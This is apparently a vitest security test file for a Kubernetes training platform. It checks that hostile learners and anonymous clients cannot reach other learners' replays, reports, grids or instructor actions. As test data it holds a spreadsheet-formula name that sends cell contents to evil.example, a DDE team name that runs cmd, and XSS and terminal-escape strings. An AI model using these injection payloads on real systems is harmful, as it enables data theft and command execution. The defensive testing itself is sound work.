import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { io } from 'socket.io-client';
import { afterAll, beforeAll, describe, test } from 'vitest';
import { openDatabase, type Db } from '../../server/db/database.ts';
import type { Announcement, CompetencyReport, EventView, ExerciseView, InstructorGrid, Leaderboard, Me, ReplayEntry, ReplayView, SessionView } from '../../server/protocol/rest.ts';
import { learnerChange } from '../../server/replay/learner-change.ts';
import { ReplayStore } from '../../server/replay/replay-store.ts';
import { ScoreStore } from '../../server/scoring/score-store.ts';
import { ApiUser, next } from '../support/api-client.ts';
import { eventually, testConfig } from '../support/clusters.ts';
import { startTestServer } from '../support/server.ts';

/*
 * The instructor and team surface (events that run themselves, the grid, announcements,
 * instructor actions, replay, competency reports, account deletion) attacked by a hostile
 * learner, a hostile anonymous client and a lazy learner. No cluster: the events use an
 * exercise this provider cannot run (nothing is pre-warmed for it) and the work is written
 * to the server's SQLite file with the stores the server uses.
 */

/** Needs the `runtime` capability: loaded (events may list it) but never prepared here. */
const EXERCISE = 'automounted-token';
/** A plain exercise the embedded provider runs (the deletion test's one session). */
const CLUSTER_EXERCISE = 'anonymous-access';

/** Emits anything, as a hostile client would. */
const emitRaw = (sock: unknown, event: string, payload: unknown) => (sock as { emit(e: string, p: unknown): void }).emit(event, payload);

/** RFC 4180 fields (quoted fields may hold commas, doubled quotes and newlines), unquoted. */
function csvFields(doc: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < doc.length) {
    let field = '';
    if (doc[i] === '"') {
      i++;
      for (;;) {
        if (i >= doc.length) throw new Error('unterminated quoted field');
        if (doc[i] === '"' && doc[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (doc[i] === '"') {
          i++;
          break;
        } else field += doc[i++];
      }
    } else {
      while (i < doc.length && doc[i] !== ',' && doc[i] !== '\n') field += doc[i++];
    }
    row.push(field);
    if (doc[i] === ',') i++;
    else {
      rows.push(row);
      row = [];
      i++;
    }
  }
  return rows;
}

/** A text cell a spreadsheet would run as a formula (numbers, even negative, are data). */
const formula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('hostile learners and clients against events, grids, replays and reports (real server, one cluster)', () => {
  const dataDir = testConfig().BATTEN_DATA_DIR;
  let server: Awaited<ReturnType<typeof startTestServer>>;
  let base = '';
  // root: admin; ivy runs event A, ola runs event B; lea and mal are in A, ben in B
  const u: Record<'root' | 'ivy' | 'ola' | 'lea' | 'mal' | 'ben', ApiUser> = {} as never;
  const id: Record<string, number> = {};
  let a: EventView;
  let b: EventView;
  const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")';
  const EVIL_TEAM = '@SUM(1+1)*cmd|" /C calc"!A0';

  beforeAll(async () => {
    server = await startTestServer({ POOL_SIZE: '0', PREWARM_EXERCISES: '', BATTEN_DATA_DIR: dataDir, LOG_LEVEL: 'warn' });
    base = server.base;
    const names = { root: 'Root', ivy: 'Ivy', ola: 'Ola', lea: 'Lea', mal: EVIL_NAME, ben: 'Ben' } as const;
    for (const [k, display] of Object.entries(names) as [keyof typeof u, string][]) {
      u[k] = new ApiUser(base);
      const r = await u[k].call<Me>('POST', '/api/auth/signup', { username: k, displayName: display, password: `${k}-password-123` });
      assert.equal(r.status, 201, r.text);
      id[k] = r.body.id;
    }
    for (const k of ['ivy', 'ola']) assert.equal((await u.root.call<Me>('POST', '/api/users/role', { username: k, role: 'instructor' })).body.role, 'instructor');
    // both run now; A's learners' board is frozen for its whole length
    const now = Date.now();
    const running = { startsAt: new Date(now - 60_000).toISOString(), endsAt: new Date(now + 3_600_000).toISOString(), exercises: [EXERCISE] };
    const ra = await u.ivy.call<EventView>('POST', '/api/events', { name: 'A', ...running, freezeMinutes: 600 });
    assert.equal(ra.status, 201, ra.text);
    a = ra.body;
    b = (await u.ola.call<EventView>('POST', '/api/events', { name: 'B', ...running })).body;
    for (const k of ['lea', 'mal'] as const) assert.equal((await u[k].call('POST', '/api/events/join', { code: a.joinCode })).status, 200);
    assert.equal((await u.ben.call('POST', '/api/events/join', { code: b.joinCode })).status, 200);
    assert.equal((await u.mal.call('POST', `/api/events/${a.id}/teams`, { name: EVIL_TEAM })).status, 201);

    // work recorded as the server records it: Lea scores in A (during the freeze), Ben in B;
    // Ben's session has ended and has a replay; Lea's is still running
    const objectives = (await u.lea.call<ExerciseView>('GET', `/api/exercises/${EXERCISE}`)).body.objectives.map((o) => o.id);
    assert.ok(objectives.length > 0);
    const db = openDatabase(path.join(dataDir, 'batten.db'));
    try {
      const store = new ScoreStore(db);
      const award = (userId: number, eventId: number) => {
        for (const o of objectives) assert.equal(store.awardObjective({ userId, eventId, exercise: EXERCISE }, { id: o, points: 25 }, { objectiveIds: objectives, completionBonus: 0 }).awarded, true);
      };
      store.startSession('lea-in-a', { userId: id.lea!, eventId: a.id, exercise: EXERCISE }, 'c1');
      award(id.lea!, a.id);
      store.startSession('ben-in-b', { userId: id.ben!, eventId: b.id, exercise: EXERCISE }, 'c2');
      award(id.ben!, b.id);
      new ReplayStore(db).record('ben-in-b', { at: new Date().toISOString(), verb: 'update', apiVersion: 'v1', kind: 'ConfigMap', namespace: 'shop', name: 'ben-private', manager: 'kubectl-edit', diff: [{ path: 'data.note', before: '"a"', after: '"ben-marker"' }], more: 0 });
      store.endSession('ben-in-b');
    } finally {
      db.close();
    }
  });
  afterAll(async () => {
    await server?.stop();
  });

  test('an anonymous client gets nothing: every new route answers 401, the socket does not connect', async () => {
    const anon = new ApiUser(base);
    for (const [method, p] of [
      ['GET', `/api/events/${a.id}/grid`],
      ['GET', `/api/events/${a.id}/report`],
      ['GET', `/api/events/${a.id}/report.csv`],
      ['GET', `/api/events/${a.id}/report.json`],
      ['GET', `/api/events/${a.id}/leaderboard`],
      ['GET', `/api/events/${a.id}/announcements`],
      ['POST', `/api/events/${a.id}/announcements`],
      ['POST', `/api/events/${a.id}/learners/${id.lea}/extend`],
      ['POST', `/api/events/${a.id}/learners/${id.lea}/end-session`],
      ['POST', `/api/events/${a.id}/learners/${id.lea}/fresh-cluster`],
      ['GET', '/api/sessions/ben-in-b/replay'],
      ['POST', '/api/sessions/lea-in-a/reset'],
      ['GET', '/api/me/report'],
      ['DELETE', '/api/users/lea'],
    ] as const) {
      const r = await anon.call(method, p, method === 'GET' ? undefined : { text: 'x', minutes: 5 });
      assert.equal(r.status, 401, `${method} ${p}: ${r.text}`);
    }
    const s = io(base, { transports: ['websocket'], reconnection: false, forceNew: true });
    try {
      const refused = await new Promise<Error>((resolve, reject) => {
        s.on('connect_error', resolve);
        s.on('connect', () => reject(new Error('an anonymous socket connected')));
      });
      assert.match(refused.message, /sign in first/);
    } finally {
      s.disconnect();
    }
  });

  test("a learner reads no other learner's replay or report, and no grid, report or announcements of an event they do not run", async () => {
    // replays: another learner's (ended) is invisible; their own opens only once ended
    assert.equal((await u.lea.call('GET', '/api/sessions/ben-in-b/replay')).status, 404);
    assert.equal((await u.mal.call('GET', '/api/sessions/lea-in-a/replay')).status, 404);
    assert.equal((await u.lea.call('GET', '/api/sessions/lea-in-a/replay')).status, 403);
    const own = await u.ben.call<ReplayView>('GET', '/api/sessions/ben-in-b/replay');
    assert.equal(own.status, 200, own.text);
    assert.match(own.text, /ben-marker/);
    // the instructor of A reads A's replays, not B's; B's instructor reads B's
    assert.equal((await u.ivy.call('GET', '/api/sessions/lea-in-a/replay')).status, 200);
    assert.equal((await u.ivy.call('GET', '/api/sessions/ben-in-b/replay')).status, 404);
    assert.equal((await u.ola.call('GET', '/api/sessions/ben-in-b/replay')).status, 200);
    // the attachment's name is not the learner's to choose
    const dl = await fetch(`${base}/api/sessions/ben-in-b/replay?download=1`, { headers: { cookie: u.ben.cookie } });
    assert.match(dl.headers.get('content-disposition') ?? '', /^attachment; filename="?replay-ben-in-b\.json"?$/);

    // reports: a learner's own only; an event's for its instructors and admins
    const mine = await u.mal.call<CompetencyReport>('GET', '/api/me/report');
    assert.deepEqual(mine.body.learners.map((l) => l.id), [id.mal]);
    assert.equal(mine.body.room.total.solved, 0, "Mal's report holds nothing of Lea's work");
    for (const p of ['report', 'report.csv', 'report.json', 'grid', 'leaderboard.csv']) {
      for (const ev of [a, b]) assert.equal((await u.lea.call('GET', `/api/events/${ev.id}/${p}`)).status, 403, `lea ${p} of ${ev.name}`);
      assert.equal((await u.ivy.call('GET', `/api/events/${b.id}/${p}`)).status, 403, `ivy ${p} of B`);
    }
    assert.equal((await u.ivy.call('GET', `/api/events/${a.id}/report`)).status, 200);
    // announcements and boards of an event one is not in
    assert.equal((await u.lea.call('GET', `/api/events/${b.id}/announcements`)).status, 404);
    assert.equal((await u.lea.call('GET', `/api/events/${b.id}/leaderboard`)).status, 404);
    assert.equal((await u.lea.call('POST', `/api/events/${a.id}/announcements`, { text: 'free points at evil.example' })).status, 403);
    assert.equal((await u.ivy.call('POST', `/api/events/${b.id}/announcements`, { text: 'B is cancelled' })).status, 403);
    assert.deepEqual((await u.ben.call<Announcement[]>('GET', `/api/events/${b.id}/announcements`)).body, []);
  });

  test("the instructor of A acts on A's learners only; learners act on no one", async () => {
    for (const action of ['extend', 'end-session', 'fresh-cluster']) {
      const body = { minutes: 30 };
      // B's learner through A (not a member), and through B (not A's instructor)
      assert.equal((await u.ivy.call('POST', `/api/events/${a.id}/learners/${id.ben}/${action}`, body)).status, 404, action);
      assert.equal((await u.ivy.call('POST', `/api/events/${b.id}/learners/${id.ben}/${action}`, body)).status, 403, action);
      // a learner on a fellow learner, in their own event and in another
      assert.equal((await u.mal.call('POST', `/api/events/${a.id}/learners/${id.lea}/${action}`, body)).status, 403, action);
      assert.equal((await u.mal.call('POST', `/api/events/${a.id}/learners/${id.mal}/${action}`, body)).status, 403, `${action} on oneself`);
      assert.equal((await u.lea.call('POST', `/api/events/${b.id}/learners/${id.ben}/${action}`, body)).status, 403, action);
    }
    const db = openDatabase(path.join(dataDir, 'batten.db'));
    try {
      assert.equal((db.prepare('SELECT COUNT(*) AS n FROM event_extensions').get() as { n: number }).n, 0, 'nobody got extra time');
    } finally {
      db.close();
    }
  });

  test('sockets: a learner watches no grid, no board of an event they are not in, and sees the frozen board', async () => {
    const [lea, ivy] = [u.lea.socket(), u.ivy.socket()];
    try {
      await Promise.all([next(lea, 'connect' as never), next(ivy, 'connect' as never)]);
      const refusals: [typeof lea, string, unknown, RegExp][] = [
        [lea, 'grid:watch', { eventId: a.id }, /instructors/],
        [lea, 'grid:watch', { eventId: b.id }, /instructors/],
        [lea, 'leaderboard:watch', { eventId: b.id }, /no such event/],
        [ivy, 'grid:watch', { eventId: b.id }, /instructors/],
        [lea, 'grid:watch', { eventId: '1' }, /malformed/],
        [lea, 'leaderboard:watch', { eventId: a.id, staff: true }, /malformed/],
      ];
      for (const [s, event, payload, error] of refusals) {
        const err = next(s, 'error', (p) => p.event === event);
        emitRaw(s, event, payload);
        assert.match((await err).error, error, `${event} ${JSON.stringify(payload)}`);
      }
      let leakedGrid = false;
      lea.on('grid:update', () => (leakedGrid = true));
      const board = next(lea, 'leaderboard:update');
      lea.emit('leaderboard:watch', { eventId: a.id });
      const lb = await board;
      assert.equal(lb.frozenAt, a.startsAt);
      assert.ok(lb.individuals.every((i) => i.score === 0 && i.lastScoredAt === null), 'nothing scored during the freeze shows');
      assert.ok(lb.series.every((s) => s.points.length === 1));
      const staff = next(ivy, 'leaderboard:update');
      ivy.emit('leaderboard:watch', { eventId: a.id });
      assert.ok((await staff).individuals.find((i) => i.id === id.lea)!.score > 0, 'the staff see the live score');
      await new Promise((r) => setTimeout(r, 300));
      assert.equal(leakedGrid, false);
    } finally {
      lea.disconnect();
      ivy.disconnect();
    }
  });

  test('the frozen board leaks no live score over HTTP to learners; the staff see it live', async () => {
    for (const k of ['lea', 'mal'] as const) {
      const lb = (await u[k].call<Leaderboard>('GET', `/api/events/${a.id}/leaderboard`)).body;
      assert.equal(lb.frozenAt, a.startsAt);
      assert.ok(lb.individuals.every((i) => i.score === 0), `${k} sees no live score`);
    }
    const live = (await u.ivy.call<Leaderboard>('GET', `/api/events/${a.id}/leaderboard`)).body;
    assert.equal(live.frozenAt, undefined);
    assert.ok(live.individuals.find((i) => i.id === id.lea)!.score > 0);
  });

  test('names a learner chose cannot become spreadsheet formulas in the leaderboard or report CSV', async () => {
    const docs = [
      (await u.ivy.call('GET', `/api/events/${a.id}/leaderboard.csv`)).text,
      ...(await Promise.all(['learner', 'team', 'category'].map(async (by) => (await u.ivy.call('GET', `/api/events/${a.id}/report.csv?by=${by}`)).text))),
    ];
    let named = 0;
    for (const doc of docs) {
      for (const cell of csvFields(doc).flat()) {
        assert.equal(formula(cell), false, `a formula cell: ${cell}`);
        if (cell.includes('HYPERLINK') || cell.includes('@SUM')) named++;
      }
    }
    assert.ok(named >= 4, 'the names are in the files, as text');
    // the filename of the report is built from the route's id only once it was checked
    assert.equal((await u.ivy.call('GET', `/api/events/${a.id}%22/report.csv`)).status, 403);
  });

  // Fixed in server/events/event-store.ts (putInTeam removes the team its member left empty).
  // Before: each POST /teams made a team that stayed, and every leaderboard push, grid and
  // report carried all of them.
  test('a learner creating team after team holds one team, not hundreds every board, push and report carries', async () => {
    const teamsOf = async () => (await u.ivy.call<Leaderboard>('GET', `/api/events/${a.id}/leaderboard`)).body.teams.map((t) => t.name);
    const before = await teamsOf();
    for (let i = 0; i < 60; i++) assert.equal((await u.mal.call('POST', `/api/events/${a.id}/teams`, { name: `spam-${i}` })).status, 201);
    const after = await teamsOf();
    assert.deepEqual(after.filter((n) => n.startsWith('spam-')), ['spam-59'], 'the teams Mal left empty are gone');
    assert.equal(after.length, before.length, 'Mal still has exactly one team');
    // a team someone else is still in stays when its creator leaves
    const shared = await u.mal.call<{ id: number }>('POST', `/api/events/${a.id}/teams`, { name: 'shared' });
    assert.equal((await u.lea.call('POST', `/api/teams/${shared.body.id}/join`)).status, 200);
    assert.equal((await u.mal.call('POST', `/api/events/${a.id}/teams`, { name: EVIL_TEAM })).status, 201);
    assert.ok((await teamsOf()).includes('shared'));
    const report = (await u.ivy.call<CompetencyReport>('GET', `/api/events/${a.id}/report`)).body;
    assert.deepEqual(report.teams.map((t) => t.name).sort(), [EVIL_TEAM, 'shared'].sort());
  });

  test('announcements: markup is kept as text in JSON; oversized or empty ones are refused', async () => {
    const text = '<img src=x onerror=alert(document.cookie)> \u202Egnp.exe';
    const r = await u.ivy.call<Announcement>('POST', `/api/events/${a.id}/announcements`, { text });
    assert.equal(r.status, 201);
    const got = await fetch(`${base}/api/events/${a.id}/announcements`, { headers: { cookie: u.mal.cookie } });
    assert.match(got.headers.get('content-type') ?? '', /^application\/json/);
    assert.equal(((await got.json()) as Announcement[])[0]!.text, text);
    for (const bad of ['x'.repeat(501), '   ', 42]) assert.equal((await u.ivy.call<{ field: string }>('POST', `/api/events/${a.id}/announcements`, { text: bad })).body.field, 'text');
  });

  // Fixed in server/http/routes/events.ts (idParam). Before: Number() read "0x1", "1e0", "01",
  // "1.0", "+1" and " 1" as 1.
  test('an id in a path has one form: "0x…", "…e0", "0…", "….0", "+…" or " …" never alias an event or a learner', async () => {
    const aliases = (n: number) => [`0x${n.toString(16)}`, `${n}e0`, `0${n}`, `${n}.0`, `+${n}`, ` ${n}`, `${n} `];
    const enc = encodeURIComponent;
    for (const alias of aliases(a.id)) {
      assert.ok([403, 404].includes((await u.ivy.call('POST', `/api/events/${enc(alias)}/announcements`, { text: 'aliased' })).status), `event ${JSON.stringify(alias)}`);
      assert.equal((await u.mal.call('GET', `/api/events/${enc(alias)}/leaderboard`)).status, 404, `event ${JSON.stringify(alias)}`);
      assert.equal((await u.mal.call('POST', `/api/events/${enc(alias)}/teams`, { name: `t${alias}` })).status, 403, `event ${JSON.stringify(alias)}`);
    }
    for (const alias of aliases(id.lea!)) {
      assert.equal((await u.ivy.call('POST', `/api/events/${a.id}/learners/${enc(alias)}/extend`, { minutes: 1 })).status, 404, `learner ${JSON.stringify(alias)}`);
    }
    for (const junk of ['-1', '1e3', '99999999999999999999', '9007199254740993', 'NaN', 'Infinity', '0']) {
      assert.ok([403, 404].includes((await u.ivy.call('POST', `/api/events/${enc(junk)}/announcements`, { text: 'junk' })).status), junk);
      assert.equal((await u.ivy.call('POST', `/api/events/${a.id}/learners/${enc(junk)}/extend`, { minutes: 1 })).status, 404, junk);
    }
    // the canonical form still works
    assert.equal((await u.ivy.call<{ extraMinutes: number }>('POST', `/api/events/${a.id}/learners/${id.lea}/extend`, { minutes: 1 })).body.extraMinutes, 1);
    assert.deepEqual((await u.mal.call<Announcement[]>('GET', `/api/events/${a.id}/announcements`)).body.filter((x) => x.text === 'aliased' || x.text === 'junk'), []);
  });

  // Fixed in server/events/event-store.ts (canManage asks for the instructor role, as
  // replay-access.ts did) and server/http/routes/auth.ts (a demotion cuts the account's sockets).
  // Before: a demoted instructor kept the grid, reports and actions on learners of their events.
  test('an instructor made a learner again no longer runs the event they created', async () => {
    assert.equal((await u.ola.call('GET', `/api/events/${b.id}/grid`)).status, 200);
    // her socket, opened as an instructor and watching the grid, does not outlive the role
    const watching = u.ola.socket();
    await next(watching, 'connect' as never);
    const grid = next(watching, 'grid:update');
    watching.emit('grid:watch', { eventId: b.id });
    await grid;
    const cut = new Promise<void>((r) => watching.on('disconnect', () => r()));
    assert.equal((await u.root.call<Me>('POST', '/api/users/role', { username: 'ola', role: 'learner' })).body.role, 'learner');
    await Promise.race([cut, new Promise((_r, fail) => setTimeout(() => fail(new Error('the instructor’s socket outlived her role')), 5_000))]);
    for (const p of ['grid', 'report', 'report.csv', 'leaderboard.csv']) assert.equal((await u.ola.call('GET', `/api/events/${b.id}/${p}`)).status, 403, p);
    assert.equal((await u.ola.call('POST', `/api/events/${b.id}/announcements`, { text: 'still in charge' })).status, 403);
    for (const action of ['extend', 'end-session', 'fresh-cluster']) assert.equal((await u.ola.call('POST', `/api/events/${b.id}/learners/${id.ben}/${action}`, { minutes: 60 })).status, 403, action);
    assert.equal((await u.ola.call('GET', '/api/sessions/ben-in-b/replay')).status, 404);
    const lb = await u.ola.call<Leaderboard>('GET', `/api/events/${b.id}/leaderboard`);
    assert.equal(lb.status, 200, 'she may still look at the board of the event she made');
    const s = u.ola.socket();
    try {
      await next(s, 'connect' as never);
      const err = next(s, 'error', (p) => p.event === 'grid:watch');
      s.emit('grid:watch', { eventId: b.id });
      assert.match((await err).error, /instructors/);
    } finally {
      s.disconnect();
    }
    // an admin still runs it
    assert.equal((await u.root.call('GET', `/api/events/${b.id}/grid`)).status, 200);
  });

  // the one cluster of this file: a learner's running practice session
  test('deleting an account that owns a running session ends it and frees its cluster; its work leaves every board and replay', async () => {
    const started = await u.lea.call<SessionView>('POST', `/api/exercises/${CLUSTER_EXERCISE}/start`, { eventId: 0 });
    assert.equal(started.status, 202, started.text);
    await eventually('the session to be ready', async () => (await u.lea.call<SessionView>('GET', `/api/sessions/${started.body.id}`)).body.status === 'ready', 240_000);
    const leased = async () => (await (await fetch(`${base}/api/pool`)).json()) as { leased: number };
    assert.equal((await leased()).leased, 1);
    // the learner's terminal socket is open when the account goes
    const s = u.lea.socket();
    await next(s, 'connect' as never);
    const cut = new Promise<void>((r) => s.on('disconnect', () => r()));
    const del = await u.root.call('DELETE', '/api/users/lea');
    assert.equal(del.status, 204, del.text);
    await cut;
    assert.equal((await u.lea.call('GET', '/api/auth/me')).status, 401);
    await eventually('the cluster to be released', async () => (await leased()).leased === 0, 60_000);
    // off the boards, the grid, the reports; the replay of her event session is gone
    const live = (await u.ivy.call<Leaderboard>('GET', `/api/events/${a.id}/leaderboard`)).body;
    assert.ok(!live.individuals.some((i) => i.id === id.lea));
    assert.deepEqual(live.teams.map((t) => t.name), [EVIL_TEAM], 'the team only Lea was in went with her');
    assert.ok(!(await u.ivy.call<InstructorGrid>('GET', `/api/events/${a.id}/grid`)).body.learners.some((l) => l.id === id.lea));
    assert.ok(!(await u.ivy.call<CompetencyReport>('GET', `/api/events/${a.id}/report`)).body.learners.some((l) => l.id === id.lea));
    assert.equal((await u.ivy.call('GET', '/api/sessions/lea-in-a/replay')).status, 404);
    assert.equal((await u.ivy.call('POST', `/api/events/${a.id}/learners/${id.lea}/extend`, { minutes: 1 })).status, 404);
    // what her checker or recorder still had in flight did not crash the server
    assert.equal((await fetch(`${base}/healthz`)).status, 200);
    assert.doesNotMatch(server.server.out.stdout + server.server.out.stderr, /uncaught exception|unhandled rejection/);
    s.disconnect();
  });
});

describe('a lazy learner against the award window and a hostile one against the replay recorder (real SQLite, pure)', () => {
  let dir = '';
  let db: Db;
  const user = (name: string) => Number(db.prepare("INSERT INTO users (username, display_name, password_hash, role) VALUES (?, ?, 'x', 'learner')").run(name, name).lastInsertRowid);

  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'batten-instructor-attack-'));
    db = openDatabase(path.join(dir, 'batten.db'));
  });
  afterAll(() => {
    db?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test('nothing scores before the start or after the end, even from a session started in time; an extension opens it for its learner only', () => {
    const [teacher, bob, carol] = [user('teacher'), user('bob'), user('carol')];
    const start = Date.parse('2030-01-01T10:00:00Z');
    const end = start + 3_600_000;
    const eventId = Number(db.prepare("INSERT INTO events (name, join_code, starts_at, ends_at, exercises, created_by) VALUES ('W', 'WINDOW01', ?, ?, '[\"x\"]', ?)").run(new Date(start).toISOString(), new Date(end).toISOString(), teacher).lastInsertRowid);
    db.prepare('INSERT INTO event_extensions (event_id, user_id, minutes) VALUES (?, ?, 5)').run(eventId, bob);
    let now = start - 60_000;
    const store = new ScoreStore(db, () => new Date(now));
    const award = (userId: number, objective: string) => store.awardObjective({ userId, eventId, exercise: 'x' }, { id: objective, points: 10 }, { objectiveIds: ['o1', 'o2', 'o3'], completionBonus: 50 });
    assert.deepEqual(award(carol, 'o1'), { awarded: false, bonusAwarded: false, closed: true }, 'before the start');
    now = end - 60_000;
    store.startSession('carol-late', { userId: carol, eventId, exercise: 'x' }, 'c');
    store.startSession('bob-late', { userId: bob, eventId, exercise: 'x' }, 'c');
    assert.equal(award(carol, 'o1').awarded, true);
    now = end + 60_000;
    assert.equal(award(carol, 'o2').closed, true, 'a session started in time scores nothing after the end');
    assert.equal(award(bob, 'o2').awarded, true, "within Bob's extra minutes");
    now = end + 6 * 60_000;
    assert.equal(award(bob, 'o3').closed, true, 'after his extra minutes too');
    assert.deepEqual([store.score(carol, eventId), store.score(bob, eventId)], [10, 10]);
  });

  test('a Secret applied with kubectl (its value in last-applied-configuration) never shows its value in the replay', () => {
    const value = 'hunter2-Sup3rS3cret';
    const b64 = Buffer.from(value).toString('base64');
    const secret = (v: string, note: string) => ({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: {
        name: 'db',
        namespace: 'shop',
        annotations: { note, 'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db', namespace: 'shop' }, data: { password: v }, stringData: { token: value } }) },
        managedFields: [{ manager: 'kubectl-client-side-apply', operation: 'Update', time: '2030-01-01T10:00:00Z', fieldsV1: { 'f:data': { 'f:password': {} } } }],
      },
      data: { password: v, 'tls.key': v, '.hidden': v },
      type: 'Opaque',
    });
    const o = { kind: 'Secret', apiVersion: 'v1' };
    const created = learnerChange('ADDED', undefined, secret(b64, 'v1'), o)!;
    const updated = learnerChange('MODIFIED', { ...secret(Buffer.from('old').toString('base64'), 'v0'), metadata: { name: 'db', namespace: 'shop' } }, secret(b64, 'v2'), o)!;
    const deleted = learnerChange('DELETED', undefined, secret(b64, 'v2'), o)!;
    for (const e of [created, updated, deleted]) {
      const json = JSON.stringify(e);
      assert.ok(!json.includes(value) && !json.includes(b64) && !json.includes(b64.slice(0, 12)), json);
      assert.ok(e.diff.some((l) => l.path.startsWith('data') && (l.after ?? l.before) === '(redacted)'), json);
      assert.ok(!json.includes('last-applied'), json);
    }
  });

  test('a huge ConfigMap, markup and control characters make a small, escaped entry; thousands of changes stay bounded', () => {
    const evil = '\u001b]0;pwned\u0007\u001b[2J<script>alert(1)</script>\u0000';
    // keys in the diff's order: the evil value first, then a mebibyte, then thousands
    const data: Record<string, string> = { a0: evil, big: 'A'.repeat(1 << 20) };
    for (let i = 0; i < 5000; i++) data[`k${i}`] = `v${i}`.repeat(50);
    const cm = { metadata: { name: 'flood', namespace: 'shop', managedFields: [{ manager: 'kubectl-create', operation: 'Update', time: '2030-01-01T00:00:00Z' }] }, data };
    const e = learnerChange('ADDED', undefined, cm, { kind: 'ConfigMap', apiVersion: 'v1' })!;
    assert.ok(JSON.stringify(e).length < 20_000, `one entry is ${JSON.stringify(e).length} characters`);
    assert.ok(e.more > 4900);
    assert.equal(e.diff.find((l) => l.path === 'data.a0')?.after, JSON.stringify(evil), 'shown as a JSON string: escaped, markup as text');
    for (const l of e.diff) assert.ok(!/[\u0000-\u001f]/.test(`${l.path}${l.before ?? ''}${l.after ?? ''}`), `a raw control character in ${JSON.stringify(l)}`);

    const learner = user('flooder');
    new ScoreStore(db).startSession('flood', { userId: learner, eventId: 0, exercise: 'x' }, 'c');
    const replay = new ReplayStore(db);
    const entry: ReplayEntry = { at: '2030-01-01T00:00:00.000Z', verb: 'create', apiVersion: 'v1', kind: 'ConfigMap', namespace: 'shop', name: 'cm', manager: 'kubectl-create', diff: e.diff, more: e.more };
    let kept = 0;
    for (let i = 0; i < 3000; i++) if (replay.record('flood', { ...entry, name: `cm-${i}` }) === 'kept') kept++;
    const view = replay.view('flood')!;
    assert.ok(kept > 0 && kept <= 2000);
    assert.equal(view.items.length, kept);
    assert.equal(view.dropped, 3000 - kept);
    assert.ok(JSON.stringify(view).length < 3 * 1024 * 1024, 'the replay of a flooded session stays a few megabytes');
    assert.equal(view.items[0]!.type === 'change' && view.items[0]!.name, 'cm-0', 'the first changes are the ones kept');
  });
});
